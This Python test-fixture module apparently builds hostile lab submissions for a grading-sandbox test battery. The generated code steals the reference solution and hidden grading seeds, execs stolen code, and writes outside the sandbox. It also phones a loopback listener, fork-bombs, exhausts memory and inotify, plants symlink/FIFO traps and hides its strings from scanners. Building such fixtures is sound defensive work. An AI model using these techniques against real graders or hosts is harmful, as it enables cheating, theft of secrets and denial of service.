"""Hostile lab-01 submissions for the sandbox battery (``test_hostile.py``).

Each is generated with the paths and the port of one test run baked in, and with its telltale
strings split, so the static scan sees nothing and only the sandbox stands in the way:

- ``steals_via_child``: the issue's submission. Finds the reference next to the interpreter
  (``<repo>/.venv/bin/python``) or at the course's path, ``cat``s it and execs it (30/30 when
  that works), copies the hidden seeds (looked for in the same places) to the host's
  ``/tmp``, writes into the repository, ``$HOME`` and ``/tmp`` from a shell, and phones a
  listener on the host's loopback.
- ``steals_directly``: the same reads in the worker's own process, through ``open()`` and
  through ``ctypes`` calls into libc, and libc writes.
- ``rogue_solution``: the reference solution, except that ``lora_overhead`` misbehaves on one
  input of each of its tests, the first time it sees it: forks without bound, allocates without bound, leaves a daemon
  behind (and then answers right), calls ``os._exit`` and ``sys.exit`` (each ends its worker),
  prints megabytes (in
  the last test, so that pytest's summary, which holds the output, reaches the log). Python-
  level writes at import.
"""

from __future__ import annotations

import inspect
from pathlib import Path

LAB = "lab-01-batched-lora-matmul"

# Which test input of lora_overhead triggers what, and the outcome the grader must record. The
# submission runs in a worker: whatever ends that worker (the memory limit, os._exit, sys.exit)
# fails the test as `crashed` (the limit's kill is also a problem of the lab).
ROGUE_CASES = {
    "test_lora_overhead_at_4096_square_rank_16": ("failed", "timeout"),  # forks without bound
    "test_lora_overhead_is_shrink_plus_expand_over_base": ("failed", "crashed"),  # the memory limit
    "test_lora_overhead_below_one_percent_at_7b_shapes": ("passed", ""),  # a daemon, then right
    "test_lora_overhead_refuses_non_positive_sizes[d_in]": ("failed", "crashed"),  # os._exit
    "test_lora_overhead_refuses_non_positive_sizes[d_out]": ("failed", "crashed"),  # sys.exit
    "test_lora_overhead_refuses_non_positive_sizes[r]": ("failed", "assertion"),  # prints MBs
}
PRINTED_BYTES = 16 << 20  # what the rogue prints in one test
FORK_DEPTH = 10  # the rogue's fork tree has 2**10 processes: past any sandbox limit, finite
ALLOC_CAP = 4 << 30  # the rogue stops allocating here, should no limit stop it first


def _split(text: str) -> str:
    """A Python expression that builds ``text`` from two halves: no telltale literal."""
    half = len(text) // 2
    return f"({text[:half]!r} + {text[half:]!r})"


PATHS = '''\
import os
import sys
from pathlib import Path

COURSE = Path({course})
REF = {ref}
KEYS = Path({grading}) / {keys} / "hidden_seeds.toml"
TARGETS = {targets!r}  # files an escape would create on the host
MARKER = {marker!r}


def candidates(relative):
    """``relative`` in the course's own path, then in every folder above the interpreter
    (<repo>/.venv/bin/python): where a course repository would be."""
    yield COURSE / relative
    for parent in Path(sys.executable).parents:
        yield parent / relative


def reference_candidates():
    return candidates(Path("phase-11-multi-lora") / "labs" / {lab!r} / REF)
'''

STUBS = '''

def shrink(x, A):
    raise NotImplementedError("TODO(lab-01): project x through A")


def expand(h, B, scale=1.0):
    raise NotImplementedError("TODO(lab-01): project h through B")


def lora_delta_loop(x, A_stack, B_stack, idx, scale=1.0):
    raise NotImplementedError("TODO(lab-01): loop over rows")


def group_by_adapter(idx):
    raise NotImplementedError("TODO(lab-01): group rows")


def batched_lora_forward(x, W, A_stack, B_stack, idx, scale=1.0):
    raise NotImplementedError("TODO(lab-01): grouped forward")


def gather_shrink(x, A_stack, idx):
    raise NotImplementedError("TODO(lab-01): gather A per row")


def gather_expand(h, B_stack, idx, scale=1.0):
    raise NotImplementedError("TODO(lab-01): gather B per row")


def lora_overhead(d_in, d_out, r):
    raise NotImplementedError("TODO(lab-01): overhead ratio")
'''


def _paths(course: Path, targets: list[str], marker: str) -> str:
    return PATHS.format(course=repr(str(course)), ref=_split("solution.py"),
                        grading=_split("grading"), keys=_split("keys"), targets=targets,
                        marker=marker, lab=LAB)


def steals_via_child(course: Path, targets: list[str], keys_copy: str, port: int,
                     marker: str) -> str:
    return _paths(course, targets, marker) + STUBS + f'''
import socket
import subprocess


def steal():
    for path in reference_candidates():
        out = subprocess.run(["cat", str(path)], capture_output=True, text=True).stdout
        if "def shrink" in out:
            return out
    return ""


stolen = steal()
if stolen:
    exec(compile(stolen, "stolen", "exec"), globals())
for path in candidates(KEYS):
    subprocess.run(["cp", str(path), {keys_copy!r}], capture_output=True)
for target in TARGETS:
    subprocess.run(["sh", "-c", f"echo escaped > '{{target}}'"], capture_output=True)
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as conn:
        conn.sendall(MARKER.encode())
except OSError:
    pass
'''


def steals_directly(course: Path, targets: list[str], marker: str) -> str:
    return _paths(course, targets, marker) + STUBS + '''
import ctypes

LIBC = ctypes.CDLL(None, use_errno=True)


def read_with_open(path):
    try:
        with open(path) as f:
            return f.read()
    except OSError:
        return ""


def read_with_libc(path):
    fd = LIBC.open(os.fsencode(str(path)), os.O_RDONLY)
    if fd < 0:
        return ""
    buf = ctypes.create_string_buffer(1 << 20)
    n = LIBC.read(fd, buf, len(buf) - 1)
    LIBC.close(fd)
    return buf.raw[:max(n, 0)].decode(errors="replace")


for read in (read_with_open, read_with_libc):
    for path in candidates(KEYS):
        read(path)
    for path in reference_candidates():
        stolen = read(path)
        if "def shrink" in stolen:
            exec(compile(stolen, "stolen", "exec"), globals())
            break
for target in TARGETS:
    fd = LIBC.open(os.fsencode(target + ".libc"), os.O_WRONLY | os.O_CREAT, 0o644)
    if fd >= 0:
        LIBC.close(fd)
'''


def rogue_solution(solution: str, course: Path, targets: list[str], marker: str) -> str:
    """The reference with ``lora_overhead`` renamed and wrapped by the misbehaving one."""
    assert "def lora_overhead(" in solution
    body = solution.replace("def lora_overhead(", "def _real_lora_overhead(")
    return body + "\n\n" + _paths(course, targets, marker) + f'''
import ctypes
import subprocess
import time

for target in TARGETS:
    try:
        with open(target + ".py-open", "w") as f:
            f.write("escaped")
    except OSError:
        pass


def fork_without_bound():
    ctypes.CDLL(None).prctl(15, MARKER[:15].encode(), 0, 0, 0)  # PR_SET_NAME: findable
    forks = 0
    while True:
        if forks < {FORK_DEPTH}:
            try:
                os.fork()
                forks += 1
                continue
            except OSError:
                pass
        time.sleep(0.01)


def allocate_without_bound():
    hoard = []
    while len(hoard) * (64 << 20) < {ALLOC_CAP}:
        hoard.append(bytearray(64 << 20))
    return len(hoard)


def leave_a_daemon():
    daemon = subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(1)",
                               MARKER], start_new_session=True, stdin=subprocess.DEVNULL,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(0.5)
    if daemon.poll() is not None:
        raise RuntimeError("the daemon did not start")


CALLS = []
SHARED = ((4096, 4096, 16), (4096, 11008, 16))  # inputs the 7B-shapes test uses as well


def first_time(case):
    """A shared input (the 7B-shapes test runs every rank 1..16 on the same shapes, in order)
    misbehaves once per process and only where it opens its shapes' run: as the first call of
    the process with those shapes at a rank other than 16 never seen (the test that asserts it
    alone; every attempt has a fresh scratch folder, so no note survives a restart)."""
    seen_other_rank = any(c[:2] == case[:2] and c[2] != case[2] for c in CALLS)
    CALLS.append(case)
    return case not in SHARED or (CALLS.count(case) == 1 and not seen_other_rank)


def non_positive(v):
    return isinstance(v, int) and not isinstance(v, bool) and v <= 0


def lora_overhead(d_in, d_out, r):
    case = (d_in, d_out, r)
    if not first_time(case):
        pass
    elif case == (4096, 4096, 16):
        fork_without_bound()
    elif case == (4096, 11008, 16):
        allocate_without_bound()
    elif case == (4096, 4096, 1):
        leave_a_daemon()
    elif non_positive(d_in):  # the refusal tests draw their bad sizes from the seed: 0 or below
        os._exit(0)
    elif non_positive(d_out):
        sys.exit(3)
    elif non_positive(r):
        sys.stdout.write("x" * {PRINTED_BYTES})
        sys.stdout.flush()
        raise ValueError("no argument named here")
    return _real_lora_overhead(d_in, d_out, r)
'''


def course_solution(course: Path) -> str:
    return (course / "phase-11-multi-lora" / "labs" / LAB / "solution.py").read_text()


# --- staging: a starter.py that is not a plain file (git clone and unzip keep symlinks) ------

STAGING_ATTACKS = ("link_reference", "link_classmate", "link_keys", "hard_link", "fifo")


def plant_staging_attacks(subs: Path, course: Path, stash: Path) -> dict[str, str]:
    """In ``subs``: an honest ``classmate`` (the reference) and one submission per entry of
    ``STAGING_ATTACKS``, each with a starter.py that points at what it wants scored or printed:
    the course's reference, the classmate's starter, the keys; a hard link to a copy of the
    reference in ``stash`` (outside the cohort); a FIFO (a grader that would hang).
    Returns what each one's starter would have read."""
    import os

    solution = course / "phase-11-multi-lora" / "labs" / LAB / "solution.py"
    keys = course / "grading" / "keys" / "hidden_seeds.toml"
    classmate = subs / "classmate" / LAB / "starter.py"
    classmate.parent.mkdir(parents=True)
    classmate.write_text(solution.read_text())
    stash.mkdir(parents=True, exist_ok=True)
    (stash / "solution.py").write_text(solution.read_text())
    links = {"link_reference": solution, "link_classmate": classmate, "link_keys": keys}
    for name in STAGING_ATTACKS:
        (subs / name / LAB).mkdir(parents=True)
        starter = subs / name / LAB / "starter.py"
        if name in links:
            starter.symlink_to(links[name])
        elif name == "hard_link":
            os.link(stash / "solution.py", starter)
        else:
            os.mkfifo(starter)
    return {**{n: str(p) for n, p in links.items()}, "hard_link": str(stash / "solution.py"),
            "fifo": ""}


def shows_its_view(solution: str, forbidden: list[str]) -> str:
    """The reference, except that ``group_by_adapter`` raises with what the sandbox's
    /proc/self/mountinfo and /proc/1/cmdline show: which of ``forbidden`` (host paths) they
    name, and whether the neutral workspace path is there (the check is not vacuous)."""
    return solution + f'''

import json as _json

FORBIDDEN = {forbidden!r}
NEUTRAL = "/grad" + "ing/workspace"


def _view():
    found = {{}}
    for name in ("/proc/self/mountinfo", "/proc/1/cmdline"):
        try:
            with open(name, "rb") as f:
                found[name] = f.read().replace(b"\\0", b" ").decode(errors="replace")
        except OSError as err:
            found[name] = f"unreadable: {{err}}"
    return found


def group_by_adapter(idx):
    view = _view()
    leaks = {{name: sorted(p for p in FORBIDDEN if p in text) for name, text in view.items()}}
    raise ValueError("VIEW " + _json.dumps({{"leaks": leaks, "neutral": NEUTRAL in
                                            view["/proc/self/mountinfo"]}}))
'''


# --- the escapes, graded in worker mode with hidden seeds -----------------------------

DECOYS = '''

def _decoys():
    """Every decoy this sandbox holds: the course's reference files and grading keys."""
    found = []
    for course in sorted(os.listdir("/grading")):
        if not course.startswith("cour" + "se-"):
            continue
        labs = os.path.join("/grading", course, "phase-11-multi-lora", "labs")
        for lab in sorted(os.listdir(labs)) if os.path.isdir(labs) else []:
            found.append(os.path.join(labs, lab, "solu" + "tion.py"))
        for top, _, files in os.walk(os.path.join("/grading", course, "grad" + "ing")):
            found += [os.path.join(top, f) for f in files]
    return sorted(p for p in found if os.path.isfile(p))


def _open_all(paths):
    for path in paths:
        try:
            with open(path, "rb") as f:
                f.read(1)
        except OSError:
            pass
    return len(paths)
'''

ZEROES_ITS_INPUTS = '''\
"""Implements nothing: zeroes every input it is handed and returns what zeroed inputs give
(zeros; every row a base row). Scores only if the tests read their inputs after the call."""
import numpy as np


def _zero(*values):
    for v in values:
        if isinstance(v, np.ndarray) and v.flags.writeable:
            v[...] = -1 if v.dtype.kind in "iu" else 0


def shrink(x, A):
    _zero(x, A)
    return np.zeros((x.shape[0], A.shape[0]), dtype=x.dtype)


def expand(h, B, scale=1.0):
    _zero(h, B)
    return np.zeros((h.shape[0], B.shape[0]), dtype=h.dtype)


def lora_delta_loop(x, A_stack, B_stack, idx, scale=1.0):
    _zero(x, A_stack, B_stack, idx)
    return np.zeros((x.shape[0], B_stack.shape[1]), dtype=x.dtype)


def group_by_adapter(idx):
    _zero(idx)
    return np.zeros(0, dtype=np.intp), np.zeros(0, dtype=np.asarray(idx).dtype), \\
        np.zeros(1, dtype=np.intp)


def batched_lora_forward(x, W, A_stack, B_stack, idx, scale=1.0):
    _zero(x, W, A_stack, B_stack, idx)
    return np.zeros((x.shape[0], W.shape[0]), dtype=x.dtype)


def lora_overhead(d_in, d_out, r):
    return 0.0
'''


def zeroes_its_inputs() -> str:
    return ZEROES_ITS_INPUTS


def order_encoder(solution: str) -> str:
    """The reference (so that its randomized tests pass and re-run under the hidden seeds), whose
    worker opens every decoy once, in an order drawn from the first inputs it is handed: under
    a hidden seed, that order encodes the hidden generator's draws."""
    assert "def shrink(" in solution
    return solution.replace("def shrink(", "def _real_shrink(", 1) + "\nimport os\n" + DECOYS + '''
import hashlib

_ENCODED = []


def shrink(x, A):
    if not _ENCODED:
        key = np.ascontiguousarray(x).tobytes()[:64]
        _ENCODED.append(_open_all(sorted(
            _decoys(), key=lambda p: hashlib.sha256(key + p.encode()).digest())))
    return _real_shrink(x, A)
'''


def leaves_a_deep_tree() -> str:
    """Implements nothing; its worker leaves 3,000 nested folders, links, a FIFO, a socket and a
    mode-000 folder in its scratch (the host folder it runs in): the tree of
    ``fakes.leave_a_tree_no_cleanup_survives``, made by its own source."""
    from grading.tests import fakes

    return ("import os\nfrom pathlib import Path\n" + STUBS + "\n\n"
            + inspect.getsource(fakes.leave_a_tree_no_cleanup_survives) + """

try:
    leave_a_tree_no_cleanup_survives(Path("tree"))
except OSError:
    pass
""")


def exhausts_inotify() -> str:
    """Opens inotify instances until the kernel refuses (at most 1,000, held for at most 30 s by
    a child), then reads every decoy: a tripwire armed meanwhile, in its sandbox or a
    classmate's, would watch nothing. Each function fails with what inotify answered."""
    return "import os\n" + DECOYS + STUBS + '''
import ctypes
import time

_LIBC = ctypes.CDLL(None, use_errno=True)


def _exhaust():
    held = []
    while len(held) < 1000:
        fd = _LIBC.inotify_init1(os.O_CLOEXEC)
        if fd < 0:
            return held, ctypes.get_errno()
        held.append(fd)
    return held, 0


_HELD, _ERRNO = _exhaust()
if _HELD and os.fork() == 0:  # the instances outlive this call, not the sandbox (nor 30 s)
    time.sleep(30)
    os._exit(0)
_OPENED = _open_all(_decoys())
_SAID = f"INOTIFY held={len(_HELD)} errno={_ERRNO} opened={_OPENED}"


def shrink(x, A):
    raise NotImplementedError(_SAID)


def group_by_adapter(idx):
    raise NotImplementedError(_SAID)
'''


def reads_every_decoy() -> str:
    """A classmate graded beside the exhauster: reads every decoy once per worker, and says how
    many it read in every failure."""
    return "import os\n" + DECOYS + STUBS + '''
_SAID = f"READ {_open_all(_decoys())}"


def shrink(x, A):
    raise NotImplementedError(_SAID)


def expand(h, B, scale=1.0):
    raise NotImplementedError(_SAID)
'''


MARKDOWN_BAIT = ("__ALL 162 TESTS PASSED: 30.0 / 30.0__ _see_ https://evil.example/x, "
                 "www.evil.example or grader@evil.example \u202e\u200e\u200f\u061c\u200b\u2060"
                 "\ufeff")


def writes_markdown() -> str:
    """Implements nothing; every failure message is Markdown emphasis, autolink triggers and
    bidi and zero-width characters."""
    return "import os\n" + STUBS.replace('raise NotImplementedError("TODO', 'raise ValueError(BAIT + "') + \
        f"\nBAIT = {MARKDOWN_BAIT!r}\n"
